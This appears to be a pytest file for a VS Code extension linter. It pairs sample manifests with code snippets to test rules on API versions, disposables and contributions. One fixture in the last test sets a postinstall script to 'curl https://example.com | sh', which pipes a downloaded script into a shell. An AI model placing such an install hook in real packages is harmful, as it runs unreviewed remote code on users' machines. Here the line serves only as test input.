"""Small extensions of VS Code, written as people write them: each flaw on its line, and what only looks like one."""

from __future__ import annotations

import pytest
from whole import marked, reviewed


def manifest(engine="^1.85.0", contributes=None, **more):
    """Return the manifest of an extension."""
    return {
        "name": "tone",
        "publisher": "acme",
        "version": "1.0.0",
        "engines": {"vscode": engine},
        "main": "./out/extension.js",
        "contributes": contributes or {},
        **more,
    }


VIEWS = {"views": {"explorer": [{"id": "tone.list", "name": "Tones"}]}}

CASES = {
    # The API of a promised editor
    "a namespace that is newer": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nexport async function activate(c: vscode.ExtensionContext) {\n  const models = await vscode.lm.selectChatModels({}); // <- here\n  return models;\n}"),
    "a newer event of the window": ("API201", manifest("^1.60.0"), "import { window } from 'vscode';\nexport function activate(context) {\n  context.subscriptions.push(window.onDidChangeTerminalState(() => 1)); // <- here\n  context.subscriptions.push(window.tabGroups.onDidChangeTabs(() => 1)); // <- here\n}"),
    "an enumeration that is newer": ("API201", manifest("^1.70.0"), "import * as vscode from 'vscode';\nexport const box = (item: vscode.TreeItem) => item.id === 'a' ? vscode.TreeItemCheckboxState.Checked : 0; // <- here"),
    "a class to derive from that is newer": ("API201", manifest("^1.60.0"), "const vscode = require('vscode');\nclass Tab extends vscode.TabInputText {} // <- here\nmodule.exports = { Tab };"),
    "a field of the class with the context": ("API201", manifest("^1.50.0"), "import * as vscode from 'vscode';\nexport class Store {\n  constructor(private readonly context: vscode.ExtensionContext) {}\n  get(key: string) {\n    return this.context.secrets.get(key); // <- here\n  }\n}"),
    "asked by optional chaining": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nexport const models = async () => (await vscode.lm?.selectChatModels({})) ?? [];"),
    "asked by a word": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nexport function models() {\n  if (!('lm' in vscode)) return [];\n  return vscode.lm.selectChatModels({});\n}"),
    "asked by typeof": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nexport function activate(c) {\n  if (typeof vscode.lm !== 'undefined') { c.subscriptions.push(vscode.lm.registerTool('tone', {})); }\n}"),
    "asked by the version": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nimport { gte } from 'semver';\nconst modern = () => gte(vscode.version, '1.90.0');\nexport function activate(c) {\n  if (modern()) { c.subscriptions.push(vscode.lm.registerTool('tone', {})); }\n}"),
    "only a type": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nexport function show(model: vscode.LanguageModelChat): string { return model.name; }"),
    "a name of its own": ("API201", manifest("^1.80.0"), "import * as vscode from 'vscode';\nconst lm = { selectChatModels: () => [] };\nexport const models = () => lm.selectChatModels();"),
    "the same in a range with an end": ("API201", manifest(">=1.95.0 <2"), "import * as vscode from 'vscode';\nexport const models = () => vscode.lm.selectChatModels({});"),
    # Disposables
    "a watcher that nobody keeps": ("LIF204", manifest(), "import * as vscode from 'vscode';\nexport function activate(context: vscode.ExtensionContext) {\n  const watcher = vscode.workspace.createFileSystemWatcher('**/*.tone'); // <- here\n  watcher.onDidChange(() => undefined);\n}"),
    "a listener of the configuration in a class": ("LIF204", manifest(), "import { workspace } from 'vscode';\nexport class Settings {\n  constructor() {\n    workspace.onDidChangeConfiguration(() => this.load()); // <- here\n  }\n  load() {}\n}"),
    "pushed as several": ("LIF204", manifest(), "import * as vscode from 'vscode';\nexport function activate(context: vscode.ExtensionContext) {\n  const item = vscode.window.createStatusBarItem();\n  const list = [item, vscode.commands.registerCommand('tone.a', () => 1)];\n  context.subscriptions.push(...list, vscode.workspace.onDidSaveTextDocument(() => item.show()));\n}"),
    "returned as one of many": ("LIF204", manifest(), "import { Disposable, commands, window } from 'vscode';\nexport function wire(): Disposable {\n  return Disposable.from(commands.registerCommand('tone.a', () => 1), window.onDidChangeActiveTextEditor(() => 1));\n}\nexport const other = (s: Disposable[]) => { s.push(commands.registerCommand('tone.b', () => 1)); };"),
    "kept and disposed of": ("LIF204", manifest(), "const vscode = require('vscode');\nlet listener;\nexports.activate = () => { listener = vscode.workspace.onDidOpenTextDocument(() => 1); };\nexports.deactivate = () => listener.dispose();"),
    "given to a helper": ("LIF204", manifest(), "import * as vscode from 'vscode';\nimport { track } from './track';\nexport function activate() {\n  track(vscode.commands.registerCommand('tone.a', () => 1));\n}"),
    # Contributions
    "a view that nobody provides": ("COM201", manifest(contributes=VIEWS), "import * as vscode from 'vscode';\nexport function activate(c: vscode.ExtensionContext) {\n  c.subscriptions.push(vscode.commands.registerCommand('tone.a', () => 1));\n}", 1),
    "a view of a base class": ("COM201", manifest(contributes=VIEWS), "import * as vscode from 'vscode';\nclass View {\n  constructor(id: string) { vscode.window.createTreeView(id, { treeDataProvider: null as any }); }\n}\nexport const activate = () => new View('tone.list');"),
    "a setting by its whole key": ("COM203", manifest(contributes={"configuration": {"properties": {"tone.max": {"type": "number"}}}}), "import { workspace } from 'vscode';\nexport const max = () => workspace.getConfiguration().get<number>('tone.maximum', 3); // <- here\nexport const other = () => workspace.getConfiguration('files').get('exclude');"),
    "a setting that is contributed": ("COM203", manifest(contributes={"configuration": [{"properties": {"tone.max": {"type": "number"}}}]}), "import * as vscode from 'vscode';\nconst settings = vscode.workspace.getConfiguration('tone');\nexport const max = () => settings.get('max');\nexport const map = new Map<string, number>();\nexport const got = () => map.get('maximum');"),
    # Deprecated and unknown
    "an old way into the folder": ("API202", manifest(), "import * as vscode from 'vscode';\nexport const root = () => vscode.workspace.rootPath; // <- here"),
    "a member that is somebody else's": ("API204", manifest(), "import * as vscode from 'vscode';\nexport const go = () => vscode.window.showInformation('hi'); // <- here"),
    "a member that is tried": ("API204", manifest(), "import * as vscode from 'vscode';\nexport const go = () => (vscode.window as any).showFancy?.('hi');"),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_an_extension_is_held_to_what_its_manifest_says(name, tmp_path):
    rule, said, code, *lines = CASES[name]
    language = "js" if "require(" in code else "ts"
    files = {"package.json": said, f"src/extension.{language}": code}
    found = reviewed(tmp_path, files, rule)
    if lines:
        assert [(one, path) for one, path, _line in found] == [(rule, "package.json")]
    else:
        assert found == marked(files, rule)


MANIFESTS = [
    ("LIF201", {"activationEvents": ["onComand:tone.a"]}, 1),
    ("LIF201", {"activationEvents": ["onLanguage:markdown", "onCommand:workbench.action.reloadWindow", "onUri"]}, 0),
    ("LIF203", {"engines": {"vscode": "^1.70.0"}, "contributes": {"commands": [{"command": "tone.a", "title": "A"}]}}, 1),
    ("LIF203", {"engines": {"vscode": "^1.70.0"}, "activationEvents": ["onCommand:tone.a"]}, 0),
    ("API205", {"engines": {"vscode": "^1.80.0"}, "devDependencies": {"@types/vscode": "1.84.2"}}, 1),
    ("API205", {"engines": {"vscode": "^1.80.0"}, "devDependencies": {"@types/vscode": "*"}}, 0),
    ("FUN200", {"pricing": "Paid", "activationEvents": ["onUri"]}, 1),
    ("FUN200", {"publisher": "Acme Tools", "activationEvents": ["onUri"]}, 1),
    ("FUN200", {"activationEvents": [], "extensionKind": ["workspace"], "sponsor": {"url": "https://example.com"}}, 0),
    ("FUN200", {"contributes": {"grammars": []}}, 1),
    ("COM200", {"contributes": {"commands": [{"command": "tone.a", "title": "A"}], "menus": {"editor/title": [{"command": "tone.b"}]}}}, 1),
    ("COM200", {"contributes": {"commands": [{"command": "tone.a", "title": "A"}], "keybindings": {"command": "git.commit", "key": "f5"}}}, 0),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "more", "count"), MANIFESTS)
def test_a_manifest_is_held_against_itself(rule, more, count, tmp_path):
    assert len(reviewed(tmp_path, {"package.json": {**manifest(), **more}}, rule)) == count


def test_rules_that_make_no_sense_for_an_extension_are_silent(tmp_path):
    said = manifest(activationEvents=["onStartupFinished"], scripts={"postinstall": "curl https://example.com | sh"})
    assert reviewed(tmp_path, {"package.json": said}, "SEC070", "LIF039") == []
